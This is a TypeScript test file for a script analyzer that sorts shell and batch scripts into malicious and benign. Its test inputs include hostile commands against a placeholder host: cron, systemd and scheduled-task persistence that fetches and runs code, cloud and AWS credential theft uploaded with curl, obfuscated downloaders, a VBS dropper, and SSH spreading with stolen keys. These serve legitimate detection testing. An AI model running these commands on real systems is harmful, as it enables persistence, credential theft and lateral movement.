import { analyzeScript } from './analyze-script.js';

const judged = (text: string, language: 'bash' | 'batch'): { verdict: string; rules: string[] } => {
  const { verdict, facts } = analyzeScript(Buffer.from(text), { language });
  return { verdict, rules: facts.map(({ rule }) => rule) };
};

describe('facts of several commands of a shell', () => {
  it.each([
    ['a cron table', 'bash', '(crontab -l; echo "*/15 * * * * wget -qO- http://a.example.test/x | sh") | crontab -\n'],
    ['a unit', 'bash', "cat > /etc/systemd/system/x.service <<E\n[Service]\nExecStart=/bin/sh -c 'curl -s http://a.example.test/x | sh'\nE\n"],
    ['a task', 'batch', 'schtasks /create /tn "Sync" /sc hourly /tr "mshta http://a.example.test/x.hta"\r\n'],
  ] as const)('code of a server that %s starts again and again is malicious', (_what, language, text) => {
    expect(judged(text, language)).toEqual({ verdict: 'malicious', rules: expect.arrayContaining(['remote-foothold']) as string[] });
  });

  it('code of a server that runs once is no foothold', () => {
    expect(judged('curl -fsSL https://a.example.test/install.sh | sh\n', 'bash').rules).not.toContain('remote-foothold');
    expect(judged('echo "0 3 * * * root /usr/local/bin/backup" > /etc/cron.d/backup\n', 'bash')).toEqual({ verdict: 'benign', rules: expect.not.arrayContaining(['remote-foothold']) as string[] });
  });

  it('secrets that leave the machine are malicious, an encrypted dump in a bucket is not', () => {
    expect(judged('K=$(curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/app)\ncat ~/.aws/credentials > /tmp/k\ncurl -F "f=@/tmp/k" https://a.example.test/u\n', 'bash').verdict).toBe('malicious');
    expect(judged('pg_dump shop | gpg --encrypt --recipient ops > shop.gpg\nrclone copy shop.gpg s3:dumps/\n', 'bash').verdict).not.toBe('malicious');
  });

  it('a name of a program put together from pieces to fetch with is malicious', () => {
    expect(judged('set a=cert\r\nset b=util\r\n%a%%b% -urlcache -f http://a.example.test/x x.dat\r\n', 'batch').verdict).toBe('malicious');
    expect(judged('z=abcdefghijklmnopqrstuvwxyz\n${z:2:1}${z:20:1}${z:17:1}${z:11:1} -O http://a.example.test/x\n', 'bash').verdict).toBe('malicious');
    expect(judged('curl -O https://a.example.test/x\n', 'bash').verdict).toBe('benign');
  });

  it('a written script that starts what it fetched is named for it', () => {
    const lines = ['Set h = CreateObject("MSXML2.XMLHTTP")', 'h.Open "GET", "http://a.example.test/x", False', 'h.Send', 'Set s = CreateObject("ADODB.Stream")', 's.Type = 1', 's.Open', 's.Write h.responseBody', 's.SaveToFile "C:\\ProgramData\\upd.exe", 2', 'CreateObject("WScript.Shell").Run "C:\\ProgramData\\upd.exe", 0'];
    expect(judged(`${lines.map((line) => `echo ${line} >> %temp%\\a.vbs\r\n`).join('')}wscript %temp%\\a.vbs\r\n`, 'batch').rules).toContain('runs-what-it-fetched');
  });

  it('a script that goes from host to host with the keys it finds is malicious', () => {
    expect(judged("keys=$(find /home -name 'id_rsa')\nfor h in $hosts; do ssh -i $keys root@$h 'curl -s http://a.example.test/b | bash'; done\n", 'bash').rules).toContain('spreads-over-ssh');
    expect(judged("for h in $hosts; do ssh deploy@$h 'systemctl restart app'; done\n", 'bash').verdict).toBe('benign');
  });
});

describe('verdicts of ordinary administration', () => {
  it.each([
    ['a mirror of a folder', 'batch', 'robocopy D:\\Data \\\\nas\\backup /MIR\r\nforfiles /p D:\\Logs /m *.log /d -30 /c "cmd /c del @path"\r\n'],
    ['a service that hangs', 'batch', 'net stop Spooler\r\ndel /q %SystemRoot%\\System32\\spool\\PRINTERS\\*\r\nnet start Spooler\r\nipconfig /flushdns\r\n'],
    ['logs that grow old', 'bash', "find /var/log/app -name '*.log' -mtime +30 -delete\nkill -USR1 $(cat /run/nginx.pid)\necho done >> /var/log/app.log\n"],
    ['arguments read once more', 'bash', `o=$(printf '%s' "-p 22" | sed 's/-p/-P/')\neval set -- "$o"\necho "$1" >> ~/.ssh/authorized_keys\n`],
    ['a package script', 'bash', 'case "$1" in configure) chown root:root /var/lib/x; systemctl start x.timer ;; *) echo "postinst called with unknown argument $1" >&2 ;; esac\n'],
  ] as const)('%s is benign', (_what, language, text) => {
    expect(judged(text, language).verdict).toBe('benign');
  });

  it('a service started again was not stopped', () => {
    expect(judged('net stop Spooler\r\nnet start Spooler\r\n', 'batch').rules).not.toContain('service-stop-windows');
    expect(judged('net stop Spooler\r\nnet start Themes\r\n', 'batch').rules).toContain('service-stop-windows');
  });

  it('tells flags of curl apart by their case', () => {
    expect(judged('curl -f -s -o /tmp/a http://a.example.test/a\n', 'bash').rules).toContain('curl-download');
    expect(judged('curl -T /tmp/a http://a.example.test/a\n', 'bash').rules).toContain('curl-upload');
    expect(judged('curl -t x http://a.example.test/a\n', 'bash').rules).not.toContain('curl-upload');
  });
});

describe('values and places', () => {
  it('ends an address where the script fills something in', () => {
    const urls = analyzeScript(Buffer.from('curl -O https://a.example.test/v/$VERSION/x.tgz\ncurl https://a.example.test/g?$filter=id\n'), { language: 'bash' }).indicators.filter(({ type }) => type === 'url').map(({ value }) => value);
    expect(urls).toEqual(['https://a.example.test/v/', 'https://a.example.test/g?$filter=id']);
  });

  it('gives the name of a task without its quotes', () => {
    const { facts } = analyzeScript(Buffer.from('schtasks /create /tn "Nightly Sync" /tr C:\\x.exe /sc daily\r\n'), { language: 'batch' });
    expect(facts.flatMap(({ values }) => Object.values(values)).filter((value) => /^["']|["']$/.test(value))).toEqual([]);
  });

  it('does not take a program that is copied for one that starts', () => {
    expect(analyzeScript(Buffer.from('copy C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe "%~0.exe" /y\r\n'), { language: 'batch' }).layers.some(({ language }) => language === 'powershell')).toBe(false);
  });

  it('follows cmd in a console of its own, carets and all', () => {
    const { layers } = analyzeScript(Buffer.from('conhost --headless cmd /c "cu^rl -s http://a.example.test/a -o a & ru^ndll32 a,b"\r\n'), { language: 'batch' });
    expect(layers.map(({ text }) => text).join('\n')).toContain('curl -s http://a.example.test/a -o a');
  });
});
